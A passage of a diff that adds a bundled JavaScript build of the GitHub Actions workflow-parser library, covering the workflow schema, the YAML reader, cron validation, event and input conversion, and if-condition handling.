container.","mapping":{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},"non-empty-string":{"string":{"require-non-empty":true}},"sequence-of-non-empty-string":{"sequence":{"item-type":"non-empty-string"}},"sequence-of-string":{"sequence":{"item-type":"string"}},"boolean-needs-context":{"context":["github","inputs","vars","needs"],"boolean":{}},"number-needs-context":{"context":["github","inputs","vars","needs"],"number":{}},"string-needs-context":{"context":["github","inputs","vars","needs"],"string":{}},"scalar-needs-context":{"context":["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","boolean","number"]},"scalar-needs-context-with-secrets":{"context":["github","inputs","vars","needs","secrets","strategy","matrix"],"one-of":["string","boolean","number"]},"boolean-strategy-context":{"context":["github","inputs","vars","needs","strategy","matrix"],"boolean":{}},"number-strategy-context":{"context":["github","inputs","vars","needs","strategy","matrix"],"number":{}},"string-strategy-context":{"context":["github","inputs","vars","needs","strategy","matrix"],"string":{}},"boolean-steps-context":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"boolean":{}},"number-steps-context":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"number":{}},"string-runner-context":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env"],"string":{}},"string-runner-context-no-secrets":{"context":["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env"],"string":{}},"string-steps-context":{"context":["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],"string":{}},"shell":{"string":{"require-non-empty":true},"description":"Use `shell` to override the default shell settings in the runner\'s operating system. You can use built-in shell keywords, or you can define a custom set of shell options. The shell command that is run internally executes a temporary file that contains the commands specified in `run`."},"working-directory":{"string":{"require-non-empty":true},"description":"The `working-directory` keyword specifies the working directory where the command is run."},"cron-mapping":{"mapping":{"properties":{"cron":{"type":"cron-pattern","required":true},"timezone":"timezone-string"}}},"cron-pattern":{"description":"A cron expression that represents a schedule. A scheduled workflow will run at most once every 5 minutes.","string":{"require-non-empty":true}},"timezone-string":{"description":"A string that represents the time zone a scheduled workflow will run relative to in IANA format (e.g. \'America/New_York\' or \'Europe/London\'). If omitted, the workflow will run relative to midnight UTC.","string":{"require-non-empty":true}},"service-container-mapping":{"mapping":{"properties":{"image":{"type":"non-empty-string","description":"The Docker image to use as the container. The value can be the Docker Hub image or a registry name."},"options":{"type":"string","description":"Additional Docker container resource options."},"env":"container-env","ports":{"type":"sequence-of-non-empty-string","description":"An array of ports to expose on the container."},"volumes":{"type":"sequence-of-non-empty-string","description":"An array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},"credentials":"container-registry-credentials","entrypoint":{"type":"string","description":"Override the default ENTRYPOINT in the service container image."},"command":{"type":"string","description":"Override the default CMD in the service container image."}}}}}}');
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-schema.js
+
+
+
+let schema;
+function getWorkflowSchema() {
+    if (schema === undefined) {
+        const json = JSON.stringify(workflow_v1_0_min_namespaceObject);
+        schema = TemplateSchema.load(new JSONObjectReader(undefined, json));
+    }
+    return schema;
+}
+//# sourceMappingURL=workflow-schema.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/yaml-object-reader.js
+
+
+
+class YamlObjectReader {
+    constructor(fileId, content) {
+        this.lineCounter = new dist/* LineCounter */.HN();
+        this.errors = [];
+        this.doc = (0,dist/* parseDocument */.Tp)(content, {
+            lineCounter: this.lineCounter,
+            keepSourceTokens: true,
+            uniqueKeys: false // Uniqueness is validated by the template reader
+        });
+        for (const err of this.doc.errors) {
+            this.errors.push({ message: err.message, range: rangeFromLinePos(err.linePos) });
+        }
+        this._generator = this.getNodes(this.doc, new Set());
+        this.fileId = fileId;
+    }
+    *getNodes(node, aliasResolutionStack) {
+        let range = this.getRange(node);
+        if ((0,dist/* isDocument */.wz)(node)) {
+            yield new ParseEvent(EventType.DocumentStart);
+            for (const item of this.getNodes(node.contents, new Set())) {
+                yield item;
+            }
+            yield new ParseEvent(EventType.DocumentEnd);
+        }
+        if ((0,dist/* isCollection */.P3)(node)) {
+            if ((0,dist/* isSeq */.oP)(node)) {
+                yield new ParseEvent(EventType.SequenceStart, new SequenceToken(this.fileId, range, undefined));
+            }
+            else if ((0,dist/* isMap */.jh)(node)) {
+                yield new ParseEvent(EventType.MappingStart, new MappingToken(this.fileId, range, undefined));
+            }
+            for (const item of node.items) {
+                for (const child of this.getNodes(item, aliasResolutionStack)) {
+                    yield child;
+                }
+            }
+            if ((0,dist/* isSeq */.oP)(node)) {
+                yield new ParseEvent(EventType.SequenceEnd);
+            }
+            else if ((0,dist/* isMap */.jh)(node)) {
+                yield new ParseEvent(EventType.MappingEnd);
+            }
+        }
+        if ((0,dist/* isScalar */.jn)(node)) {
+            yield new ParseEvent(EventType.Literal, YamlObjectReader.getLiteralToken(this.fileId, range, node));
+        }
+        // Handle YAML aliases - resolve to the anchored value
+        if ((0,dist/* isAlias */.Vj)(node)) {
+            const resolved = node.resolve(this.doc);
+            if (resolved) {
+                // Prevent infinite recursion from circular aliases
+                if (aliasResolutionStack.has(resolved)) {
+                    // Silently ignore circular reference - the missing content will cause
+                    // downstream validation errors which is acceptable for this edge case
+                    return;
+                }
+                // Track this node in the alias resolution stack
+                const newStack = new Set(aliasResolutionStack);
+                newStack.add(resolved);
+                // Yield the resolved node's contents
+                yield* this.getNodes(resolved, newStack);
+            }
+            // If unresolved, the yaml library already reports an error
+            return;
+        }
+        if ((0,dist/* isPair */.tO)(node)) {
+            const scalarKey = node.key;
+            range = this.getRange(scalarKey);
+            const key = scalarKey.value;
+            yield new ParseEvent(EventType.Literal, new StringToken(this.fileId, range, key, undefined));
+            for (const child of this.getNodes(node.value, aliasResolutionStack)) {
+                yield child;
+            }
+        }
+    }
+    getRange(node) {
+        const range = node?.range ?? [];
+        const startPos = range[0];
+        const endPos = range[1];
+        if (startPos !== undefined && endPos !== undefined) {
+            const slp = this.lineCounter.linePos(startPos);
+            const elp = this.lineCounter.linePos(endPos);
+            return {
+                start: { line: slp.line, column: slp.col },
+                end: { line: elp.line, column: elp.col }
+            };
+        }
+        return undefined;
+    }
+    static getLiteralToken(fileId, range, token) {
+        const value = token.value;
+        if (value === null || value === undefined) {
+            return new NullToken(fileId, range, undefined);
+        }
+        switch (typeof value) {
+            case "number":
+                return new NumberToken(fileId, range, value, undefined);
+            case "boolean":
+                return new BooleanToken(fileId, range, value, undefined);
+            case "string": {
+                let source;
+                let blockScalarHeader;
+                if (token.srcToken && "source" in token.srcToken) {
+                    source = token.srcToken.source;
+                    // Extract block scalar header (e.g., |-, |+, >-)
+                    //
+                    // CST node interfaces are supported and documented per yaml library maintainer:
+                    // https://eemeli.org/yaml/#parser -> "For a complete description of CST node
+                    // interfaces, please consult the cst.ts source."
+                    // See also: https://github.com/eemeli/yaml/issues/643
+                    if (token.srcToken.type === "block-scalar" && "props" in token.srcToken) {
+                        const props = token.srcToken.props;
+                        const headerProp = props.find(p => p.type === "block-scalar-header");
+                        if (headerProp?.source) {
+                            blockScalarHeader = headerProp.source;
+                        }
+                    }
+                }
+                return new StringToken(fileId, range, value, undefined, source, blockScalarHeader);
+            }
+            default:
+                throw new Error(`Unexpected value type '${typeof value}' when reading object`);
+        }
+    }
+    allowLiteral() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.Literal) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowSequenceStart() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.SequenceStart) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowSequenceEnd() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.SequenceEnd) {
+                this._current = this._generator.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    allowMappingStart() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.MappingStart) {
+                this._current = this._generator.next();
+                return parseEvent.token;
+            }
+        }
+        return undefined;
+    }
+    allowMappingEnd() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.MappingEnd) {
+                this._current = this._generator.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    validateEnd() {
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.DocumentEnd) {
+                this._current = this._generator.next();
+                return;
+            }
+        }
+        throw new Error("Expected end of reader");
+    }
+    validateStart() {
+        if (!this._current) {
+            this._current = this._generator.next();
+        }
+        if (!this._current.done) {
+            const parseEvent = this._current.value;
+            if (parseEvent.type === EventType.DocumentStart) {
+                this._current = this._generator.next();
+                return;
+            }
+        }
+        throw new Error("Expected start of reader");
+    }
+}
+function rangeFromLinePos(linePos) {
+    if (linePos === undefined) {
+        return;
+    }
+    // TokenRange and linePos are both 1-based
+    const start = { line: linePos[0].line, column: linePos[0].col };
+    const end = linePos.length == 2 ? { line: linePos[1].line, column: linePos[1].col } : start;
+    return { start, end };
+}
+//# sourceMappingURL=yaml-object-reader.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/workflow-parser.js
+
+
+
+
+
+function parseWorkflow(entryFile, contextOrTrace) {
+    const context = contextOrTrace instanceof TemplateContext
+        ? contextOrTrace
+        : new TemplateContext(new TemplateValidationErrors(), getWorkflowSchema(), contextOrTrace);
+    const fileId = context.getFileId(entryFile.name);
+    const reader = new YamlObjectReader(fileId, entryFile.content);
+    if (reader.errors.length > 0) {
+        // The file is not valid YAML, template errors could be misleading
+        for (const err of reader.errors) {
+            context.error(fileId, err.message, err.range);
+        }
+        return {
+            context,
+            value: undefined
+        };
+    }
+    const result = readTemplate(context, WORKFLOW_ROOT, reader, fileId);
+    return {
+        context,
+        value: result
+    };
+}
+//# sourceMappingURL=workflow-parser.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/concurrency.js
+
+function convertConcurrency(context, token) {
+    const result = {};
+    if (token.isExpression) {
+        return result;
+    }
+    if (isString(token)) {
+        result.group = token;
+        return result;
+    }
+    const concurrencyProperty = token.assertMapping("concurrency group");
+    for (const property of concurrencyProperty) {
+        const propertyName = property.key.assertString("concurrency group key");
+        if (property.key.isExpression || property.value.isExpression) {
+            continue;
+        }
+        switch (propertyName.value) {
+            case "group":
+                result.group = property.value.assertString("concurrency group");
+                break;
+            case "cancel-in-progress":
+                result.cancelInProgress = property.value.assertBoolean("cancel-in-progress").value;
+                break;
+            case "queue":
+                result.queue = property.value.assertString("queue").value;
+                break;
+            default:
+                context.error(propertyName, `Invalid property name: ${propertyName.value}`);
+        }
+    }
+    return result;
+}
+//# sourceMappingURL=concurrency.js.map
+// EXTERNAL MODULE: ./node_modules/cronstrue/dist/cronstrue.js
+var dist_cronstrue = __nccwpck_require__(2507);
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/cron-constants.js
+// Constants for parsing and validating cron expressions
+const MONTHS = {
+    jan: 1,
+    feb: 2,
+    mar: 3,
+    apr: 4,
+    may: 5,
+    jun: 6,
+    jul: 7,
+    aug: 8,
+    sep: 9,
+    oct: 10,
+    nov: 11,
+    dec: 12
+};
+const DAYS = {
+    sun: 0,
+    mon: 1,
+    tue: 2,
+    wed: 3,
+    thu: 4,
+    fri: 5,
+    sat: 6
+};
+const MINUTE_RANGE = { min: 0, max: 59 };
+const HOUR_RANGE = { min: 0, max: 23 };
+const DOM_RANGE = { min: 1, max: 31 };
+const MONTH_RANGE = { min: 1, max: 12, names: MONTHS };
+const DOW_RANGE = { min: 0, max: 6, names: DAYS };
+//# sourceMappingURL=cron-constants.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/cron.js
+
+
+/**
+ * Checks if a cron expression specifies an interval shorter than 5 minutes.
+ * GitHub Actions schedules run at most every 5 minutes, so intervals < 5 min won't work as expected.
+ */
+function hasCronIntervalLessThan5Minutes(cron) {
+    if (!isValidCron(cron)) {
+        return false;
+    }
+    const parts = cron.split(/ +/);
+    const minutePart = parts[0];
+    // Parse the minute field to determine the effective interval
+    return getMinuteInterval(minutePart) < 5;
+}
+/**
+ * Gets the minimum interval in minutes between cron executions based on the minute field.
+ * Returns 60 if there's only one execution per hour, otherwise returns the minimum gap.
+ */
+function getMinuteInterval(minutePart) {
+    // Handle step expressions like */1, */3, 0-59/2
+    if (minutePart.includes("/")) {
+        const [, step] = minutePart.split("/");
+        const stepNum = parseInt(step, 10);
+        if (!isNaN(stepNum) && stepNum > 0) {
+            return stepNum;
+        }
+    }
+    // Handle comma-separated values like 0,2,4 or 0,1,5,10
+    if (minutePart.includes(",")) {
+        const values = minutePart
+            .split(",")
+            .map(v => parseInt(v, 10))
+            .filter(n => !isNaN(n))
+            .sort((a, b) => a - b);
+        if (values.length >= 2) {
+            let minGap = 60;
+            for (let i = 1; i < values.length; i++) {
+                const gap = values[i] - values[i - 1];
+                if (gap < minGap) {
+                    minGap = gap;
+                }
+            }
+            // Check wrap-around gap from last minute to first minute of next hour
+            const wrapGap = values[0] + 60 - values[values.length - 1];
+            if (wrapGap < minGap) {
+                minGap = wrapGap;
+            }
+            return minGap;
+        }
+    }
+    // Handle range expressions like 0-4 (runs every minute from 0-4)
+    if (minutePart.includes("-") && !minutePart.includes("/")) {
+        const [start, end] = minutePart.split("-").map(v => parseInt(v, 10));
+        if (!isNaN(start) && !isNaN(end) && end > start) {
+            // A range without step means every minute in that range
+            return 1;
+        }
+    }
+    // * means every minute
+    if (minutePart === "*") {
+        return 1;
+    }
+    // Single value or unrecognized pattern - assume hourly (60 min interval)
+    return 60;
+}
+function isValidCron(cron) {
+    // https://docs.github.com/en/actions/using-workflows/events-that-trigger-workflows#schedule
+    const parts = cron.split(/ +/);
+    if (parts.length != 5) {
+        return false;
+    }
+    const [minutes, hours, dom, months, dow] = parts;
+    return (validateCronPart(minutes, MINUTE_RANGE) &&
+        validateCronPart(hours, HOUR_RANGE) &&
+        validateCronPart(dom, DOM_RANGE) &&
+        validateCronPart(months, MONTH_RANGE) &&
+        validateCronPart(dow, DOW_RANGE));
+}
+function getCronDescription(cronspec) {
+    if (!isValidCron(cronspec)) {
+        return;
+    }
+    let desc = "";
+    try {
+        desc = cronstrue.toString(cronspec, {
+            dayOfWeekStartIndexZero: true,
+            monthStartIndexZero: false,
+            use24HourTimeFormat: true,
+            // cronstrue sets the description as the error if throwExceptionOnParseError is false
+            // so we need to distinguish between an error and a valid description
+            throwExceptionOnParseError: true
+        });
+    }
+    catch (err) {
+        return;
+    }
+    // Make first character lowercase
+    return "Runs " + desc.charAt(0).toLowerCase() + desc.slice(1);
+}
+function validateCronPart(value, range, allowSeparators = true) {
+    if (range.names && range.names[value.toLowerCase()] !== undefined) {
+        return true;
+    }
+    if (value === "*") {
+        return true;
+    }
+    // Operator precedence: , > / > -
+    if (value.includes(",")) {
+        if (!allowSeparators) {
+            return false;
+        }
+        return value.split(",").every(v => v && validateCronPart(v, range));
+    }
+    if (value.includes("/")) {
+        if (!allowSeparators) {
+            return false;
+        }
+        const [start, step, ...rest] = value.split("/");
+        const stepNumber = +step;
+        if (rest.length > 0 || isNaN(stepNumber) || stepNumber <= 0 || !start || !step) {
+            return false;
+        }
+        // Separators are only allowed in the part before the `/`, e.g. `1-5/2`
+        return validateCronPart(start, range) && validateCronPart(step, range, false);
+    }
+    if (value.includes("-")) {
+        if (!allowSeparators) {
+            return false;
+        }
+        const [start, end, ...rest] = value.split("-");
+        if (rest.length > 0 || !start || !end) {
+            return false;
+        }
+        // Convert name to integers so we can make sure end >= start
+        const startNumber = convertToNumber(start, range.names);
+        const endNumber = convertToNumber(end, range.names);
+        return validateCronPart(start, range, false) && validateCronPart(end, range, false) && endNumber >= startNumber;
+    }
+    const number = +value;
+    return !isNaN(number) && number >= range.min && number <= range.max;
+}
+// Converts a string integer or a short name to a number
+function convertToNumber(value, names) {
+    if (names && names[value.toLowerCase()] !== undefined) {
+        return +names[value.toLowerCase()];
+    }
+    else {
+        return +value;
+    }
+}
+//# sourceMappingURL=cron.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/string-list.js
+function convertStringList(name, token) {
+    const result = [];
+    for (const item of token) {
+        result.push(item.assertString(`${name} item`).value);
+    }
+    return result;
+}
+//# sourceMappingURL=string-list.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/workflow-template.js
+var InputType;
+(function (InputType) {
+    InputType["string"] = "string";
+    InputType["choice"] = "choice";
+    InputType["boolean"] = "boolean";
+    InputType["environment"] = "environment";
+})(InputType || (InputType = {}));
+//# sourceMappingURL=workflow-template.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/workflow-call.js
+
+
+
+function convertEventWorkflowCall(context, token) {
+    const result = {};
+    for (const item of token) {
+        const key = item.key.assertString("workflow dispatch input key");
+        switch (key.value) {
+            case "inputs":
+                result.inputs = convertWorkflowInputs(context, item.value.assertMapping("workflow dispatch inputs"));
+                break;
+            case "secrets":
+                result.secrets = convertWorkflowCallSecrets(context, item.value.assertMapping("workflow dispatch inputs"));
+                break;
+            case "outputs":
+                // TODO - outputs
+                break;
+        }
+    }
+    return result;
+}
+function convertWorkflowInputs(context, token) {
+    const result = {};
+    for (const item of token) {
+        const inputName = item.key.assertString("input name");
+        const inputMapping = item.value.assertMapping("input configuration");
+        result[inputName.value] = convertWorkflowInput(context, inputMapping);
+    }
+    return result;
+}
+function convertWorkflowInput(context, token) {
+    const result = {
+        type: InputType.string // Default to string
+    };
+    let defaultValue;
+    for (const item of token) {
+        const key = item.key.assertString("workflow dispatch input key");
+        switch (key.value) {
+            case "description":
+                result.description = item.value.assertString("input description").value;
+                break;
+            case "required":
+                result.required = item.value.assertBoolean("input required").value;
+                break;
+            case "default":
+                defaultValue = item.value.assertScalar("input default");
+                break;
+            case "type":
+                result.type = InputType[item.value.assertString("input type").value];
+                break;
+            case "options":
+                result.options = convertStringList("input options", item.value.assertSequence("input options"));
+                break;
+            default:
+                context.error(item.key, `Invalid key '${key.value}'`);
+        }
+    }
+    // Validate default value
+    if (defaultValue !== undefined && !defaultValue.isExpression) {
+        try {
+            switch (result.type) {
+                case InputType.boolean:
+                    result.default = defaultValue.assertBoolean("input default").value;
+                    break;
+                case InputType.string:
+                case InputType.choice:
+                case InputType.environment:
+                    result.default = defaultValue.assertString("input default").value;
+                    break;
+            }
+        }
+        catch (e) {
+            context.error(defaultValue, e);
+        }
+    }
+    // Validate `options` for `choice` type
+    if (result.type === InputType.choice) {
+        if (result.options === undefined || result.options.length === 0) {
+            context.error(token, "Missing 'options' for choice input");
+        }
+    }
+    else {
+        if (result.options !== undefined) {
+            context.error(token, "Input type is not 'choice', but 'options' is defined");
+        }
+    }
+    return result;
+}
+function convertWorkflowCallSecrets(context, token) {
+    const result = {};
+    for (const item of token) {
+        const secretName = item.key.assertString("secret name");
+        result[secretName.value] = convertWorkflowCallSecret(context, item.value);
+    }
+    return result;
+}
+function convertWorkflowCallSecret(context, token) {
+    const result = {};
+    if (isMapping(token)) {
+        for (const item of token) {
+            const key = item.key.assertString("workflow call secret key");
+            switch (key.value) {
+                case "description":
+                    result.description = item.value.assertString("secret description").value;
+                    break;
+                case "required":
+                    result.required = item.value.assertBoolean("secret required").value;
+                    break;
+            }
+        }
+    }
+    return result;
+}
+//# sourceMappingURL=workflow-call.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/workflow-dispatch.js
+
+
+function convertEventWorkflowDispatchInputs(context, token) {
+    const result = {};
+    for (const item of token) {
+        const key = item.key.assertString("workflow dispatch input key");
+        switch (key.value) {
+            case "inputs":
+                result.inputs = convertWorkflowDispatchInputs(context, item.value.assertMapping("workflow dispatch inputs"));
+                break;
+        }
+    }
+    return result;
+}
+function convertWorkflowDispatchInputs(context, token) {
+    const result = {};
+    for (const item of token) {
+        const inputName = item.key.assertString("input name");
+        const inputMapping = item.value.assertMapping("input configuration");
+        result[inputName.value] = convertWorkflowDispatchInput(context, inputMapping);
+    }
+    return result;
+}
+function convertWorkflowDispatchInput(context, token) {
+    const result = {
+        type: InputType.string // Default to string
+    };
+    let defaultValue;
+    for (const item of token) {
+        const key = item.key.assertString("workflow dispatch input key");
+        switch (key.value) {
+            case "description":
+                result.description = item.value.assertString("input description").value;
+                break;
+            case "required":
+                result.required = item.value.assertBoolean("input required").value;
+                break;
+            case "default":
+                defaultValue = item.value.assertScalar("input default");
+                break;
+            case "type":
+                result.type = InputType[item.value.assertString("input type").value];
+                break;
+            case "options":
+                result.options = convertStringList("input options", item.value.assertSequence("input options"));
+                break;
+            default:
+                context.error(item.key, `Invalid key '${key.value}'`);
+        }
+    }
+    // Validate default value
+    if (defaultValue !== undefined) {
+        try {
+            switch (result.type) {
+                case InputType.boolean:
+                    result.default = defaultValue.assertBoolean("input default").value;
+                    break;
+                case InputType.string:
+                case InputType.choice:
+                case InputType.environment:
+                    result.default = defaultValue.assertString("input default").value;
+                    break;
+            }
+        }
+        catch (e) {
+            context.error(defaultValue, e);
+        }
+    }
+    // Validate `options` for `choice` type
+    if (result.type === InputType.choice) {
+        if (result.options === undefined || result.options.length === 0) {
+            context.error(token, "Missing 'options' for choice input");
+        }
+    }
+    else {
+        if (result.options !== undefined) {
+            context.error(token, "Input type is not 'choice', but 'options' is defined");
+        }
+    }
+    return result;
+}
+//# sourceMappingURL=workflow-dispatch.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/events.js
+
+
+
+
+
+
+function convertOn(context, token) {
+    if (isLiteral(token)) {
+        const event = token.assertString("on");
+        return {
+            [event.value]: {}
+        };
+    }
+    if (isSequence(token)) {
+        const result = {};
+        for (const item of token) {
+            const event = item.assertString("on");
+            result[event.value] = {};
+        }
+        return result;
+    }
+    if (isMapping(token)) {
+        const result = {};
+        for (const item of token) {
+            const eventKey = item.key.assertString("event name");
+            const eventName = eventKey.value;
+            if (item.value.templateTokenType === types_TokenType.Null) {
+                result[eventName] = {};
+                continue;
+            }
+            // Schedule is the only event that can be a sequence, handle that separately
+            if (eventName === "schedule") {
+                const scheduleToken = item.value.assertSequence(`event ${eventName}`);
+                result.schedule = convertSchedule(context, scheduleToken);
+                continue;
+            }
+            // All other events are defined as mappings. During schema validation we already ensure that events
+            // receive only known keys, so here we can focus on the values and whether they are valid.
+            const eventToken = item.value.assertMapping(`event ${eventName}`);
+            if (eventName === "workflow_call") {
+                result.workflow_call = convertEventWorkflowCall(context, eventToken);
+                continue;
+            }
+            if (eventName === "workflow_dispatch") {
+                result.workflow_dispatch = convertEventWorkflowDispatchInputs(context, eventToken);
+                continue;
+            }
+            result[eventName] = {
+                ...convertPatternFilter("branches", eventToken),
+                ...convertPatternFilter("tags", eventToken),
+                ...convertPatternFilter("paths", eventToken),
+                ...convertFilter("types", eventToken),
+                ...convertFilter("versions", eventToken),
+                ...convertFilter("names", eventToken),
+                ...convertFilter("workflows", eventToken)
+            };
+        }
+        return result;
+    }
+    context.error(token, "Invalid format for 'on'");
+    return {};
+}
+function convertPatternFilter(name, token) {
+    const result = {};
+    for (const item of token) {
+        const key = item.key.assertString(`${name} filter key`);
+        switch (key.value) {
+            case name:
+                if (isString(item.value)) {
+                    result[name] = [item.value.value];
+                }
+                else {
+                    result[name] = convertStringList(name, item.value.assertSequence(`${name} list`));
+                }
+                break;
+            case `${name}-ignore`:
+                if (isString(item.value)) {
+                    result[`${name}-ignore`] = [item.value.value];
+                }
+                else {
+                    result[`${name}-ignore`] = convertStringList(`${name}-ignore`, item.value.assertSequence(`${name}-ignore list`));
+                }
+                break;
+        }
+    }
+    return result;
+}
+function convertFilter(name, token) {
+    const result = {};
+    for (const item of token) {
+        const key = item.key.assertString(`${name} filter key`);
+        switch (key.value) {
+            case name:
+                if (isString(item.value)) {
+                    result[name] = [item.value.value];
+                }
+                else {
+                    result[name] = convertStringList(name, item.value.assertSequence(`${name} list`));
+                }
+                break;
+        }
+    }
+    return result;
+}
+function convertSchedule(context, token) {
+    const result = [];
+    for (const item of token) {
+        const mappingToken = item.assertMapping(`event schedule`);
+        const config = { cron: "" };
+        let valid = true;
+        for (const entry of mappingToken) {
+            const key = entry.key.assertString(`schedule key`);
+            if (key.value === "cron") {
+                const cron = entry.value.assertString(`schedule cron`);
+                if (!isValidCron(cron.value)) {
+                    context.error(cron, "Invalid cron expression. Expected format: '* * * * *' (minute hour day month weekday)");
+                }
+                config.cron = cron.value;
+            }
+            else if (key.value === "timezone") {
+                const timezone = entry.value.assertString(`schedule timezone`);
+                config.timezone = timezone.value;
+            }
+            else {
+                context.error(key, `Invalid schedule key`);
+                valid = false;
+            }
+        }
+        if (valid && config.cron) {
+            result.push(config);
+        }
+        else if (valid && !config.cron) {
+            context.error(mappingToken, "Missing required key 'cron' in schedule entry");
+        }
+    }
+    return result;
+}
+//# sourceMappingURL=events.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/handle-errors.js
+
+function handleTemplateTokenErrors(root, context, defaultValue, f) {
+    let r = defaultValue;
+    try {
+        r = f();
+    }
+    catch (err) {
+        if (err instanceof TemplateTokenError) {
+            context.error(err.token, err);
+        }
+        else {
+            // Report error for the root node
+            context.error(root, err);
+        }
+    }
+    return r;
+}
+//# sourceMappingURL=handle-errors.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/model/converter/if-condition.js
+
+
+
+
+/**
+ * Ensures a condition expression contains a status function call.
+ * If the condition doesn't contain success(), failure(), cancelled(), or always(),
+ * wraps it in `success() && (condition)`.
+ *
+ * Parses the expression to accurately detect status functions, avoiding false positives
+ * from string literals or property access. If parsing fails (e.g., partially typed expression),
+ * returns the original condition unchanged to allow validation to report the actual error.
+ *
+ * @param condition The condition expression to check
+ * @param definitionInfo Schema definition containing allowed contexts for parsing
+ * @returns The condition with status function guaranteed, or original on parse error
+ */
+function ensureStatusFunction(condition, definitionInfo) {
+    const allowedContext = definitionInfo?.allowedContext || [];
+    try {
+        const { namedContexts, functions } = splitAllowedContext(allowedContext);
+        const lexer = new lexer_Lexer(condition);
+        const result = lexer.lex();
+        const parser = new parser_Parser(result.tokens, namedContexts, functions);
+        const tree = parser.parse();
+        // Check if tree contains status function
+        if (walkTreeToFindStatusFunctionCalls(tree)) {
+            return condition; // Already has status function
+        }
+        // Wrap it
+        return `success() && (${condition})`;
+    }
+    catch {
+        // Parse error - return original and let validation report the actual error
+        // This is important for hover/autocomplete on partially-typed expressions
+        return condition;
+    }
+}
+/**
+ * Converts an if condition token to a BasicExpressionToken.
+ * Treats the value as a string and parses it as an expression.
+ * Wraps the condition in success() && (...) if it doesn't already contain a status function.
+ * This allows both 'if: success()' and 'if: ${{ success() }}' to work correctly.
+ *
+ * Reads the allowed context directly from the schema definition attached to the token,
+ * ensuring consistency with the schema.
+ *
+ * @param context The template context for error reporting
+ * @param token The token containing the if condition
+ * @returns A BasicExpressionToken with the processed condition, or undefined on error
+ */
+function convertToIfCondition(context, token) {
+    const scalar = token.assertScalar("if condition");
+    // Get allowed context from the schema definition attached to the token
+    const allowedContext = token.definitionInfo?.allowedContext || [];
+    // If it's already an expression, use its value
+    let condition;
+    let source;
+    if (scalar instanceof BasicExpressionToken) {
+        condition = scalar.expression;
+        source = scalar.source;
+    }
+    else {
+        // Otherwise, treat it as a string
+        const stringToken = scalar.assertString("if condition");
+        condition = stringToken.value.trim();
+        source = stringToken.source;
+    }
+    let finalCondition;
+    if (!condition) {
+        // Empty condition defaults to success()
+        finalCondition = "success()";
+    }
+    else {
+        // Ensure the condition has a status function, wrapping if needed
+        finalCondition = ensureStatusFunction(condition, token.definitionInfo);
+    }
+    // Validate the expression before creating the token
+    try {
+        expression_token_ExpressionToken.validateExpression(finalCondition, allowedContext);
+    }
+    catch (err) {
+        context.error(token, err);
+        return undefined;
+    }
+    // Create a BasicExpressionToken with the final condition
+    return new BasicExpressionToken(token.file, token.range, finalCondition, token.definitionInfo, undefined, source);
+}
+/**
+ * Walks an expression AST to find status function calls (success, failure, cancelled, always).
+ * Recursively checks all nodes including function arguments and logical/binary operations.
+ */
+function walkTreeToFindStatusFunctionCalls(tree) {
+    if (!tree) {
+        return false;
+    }
+    if (tree instanceof FunctionCall) {
+        const funcName = tree.functionName.lexeme.toLowerCase();
+        if (funcName === "success" || funcName === "failure" || funcName === "cancelled" || funcName === "always") {
+            return true;
+        }
+        // Check arguments recursively
+        return tree.args.some(arg => walkTreeToFindStatusFunctionCalls(arg));
+    }
+    if (tree instanceof Binary) {
+        return walkTreeToFindStatusFunctionCalls(tree.left) || walkTreeToFindStatusFunctionCalls(tree.right);
+    }
+    if (tree instanceof Unary) {
+        return walkTreeToFindStatusFunctionCalls(tree.expr);
+    }
+    if (tree instanceof Logical) {
+        return tree.args.some(arg => walkTreeToFindStatusFunctionCalls(arg));
+    }
+    if (tree instanceof Grouping) {
+        return walkTreeToFindStatusFunctionCalls(tree.group);
+    }
+    if (tree instanceof IndexAccess) {
+        return walkTreeToFindStatusFunctionCalls(tree.expr) || walkTreeToFindStatusFunctionCalls(tree.index);
+    }
+    return false;
+}
+/**
+ * Validates a pre-if or post-if condition string.
+ * Unlike step if conditions, pre-if and post-if are evaluated as-is by the runner
+ * (they default to always() only when the field is missing entirely).
+ * This function validates the expression and reports errors through the context.
+ *
+ * @param context The template context for error reporting
